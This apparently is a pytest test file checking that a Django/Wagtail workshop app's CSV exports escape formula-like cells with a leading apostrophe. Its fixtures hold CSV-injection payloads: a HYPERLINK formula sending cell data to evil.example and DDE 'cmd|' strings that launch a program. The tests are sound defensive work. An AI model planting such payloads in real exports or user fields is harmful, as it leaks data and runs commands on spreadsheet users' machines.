"""Spreadsheets facilitators download: whatever a person or an editor wrote, in any
cell, headers included, opens as text and never as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import sign_in
from workshops.exports import csv_cell

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def rows_of(client, world, name) -> list[list[str]]:
    response = client.get(reverse(f"workshops:{name}", args=[world.cohort_a.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def hostile(world):
    module = world.modules[0]
    module.title = '=HYPERLINK("http://evil.example/?"&A2,"Ver")'
    module.save_revision().publish()
    world.trainee_a.display_name = "+cmd|' /C calc'!A0"
    world.trainee_a.save()
    return world


@pytest.mark.parametrize("name", ["attendance_csv", "progress_csv"])
def test_no_cell_of_an_export_starts_like_a_formula(client, hostile, name):
    sign_in(client, hostile.facilitator_a)
    rows = rows_of(client, hostile, name)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
    # The text is all there, one apostrophe ahead.
    names = [row[0] for row in rows[1:]]
    assert "'+cmd|' /C calc'!A0" in names


def test_the_progress_header_keeps_an_editors_formula_like_title_as_text(client, hostile):
    sign_in(client, hostile.facilitator_a)
    header = rows_of(client, hostile, "progress_csv")[0]
    assert header[1] == '\'=HYPERLINK("http://evil.example/?"&A2,"Ver")'
    assert header[2] == "Módulo 2"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+34 600", "'+34 600"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1", "'\uff1d1"),
        ("Ana", "Ana"),
        ("", ""),
        (3, 3),
        (-2, -2),
        (None, ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "report", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"]
)
def test_the_admins_spreadsheet_exports_keep_an_editors_title_as_text(client, homes, report):
    from tests.factories import StandardPageFactory, superuser

    page = StandardPageFactory(parent=homes["es"], title="=cmd|' /C calc'!A0", slug="formula")
    page.save_revision(user=None, log_action=True).publish()
    sign_in(client, superuser())
    response = client.get(reverse(report) + "?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
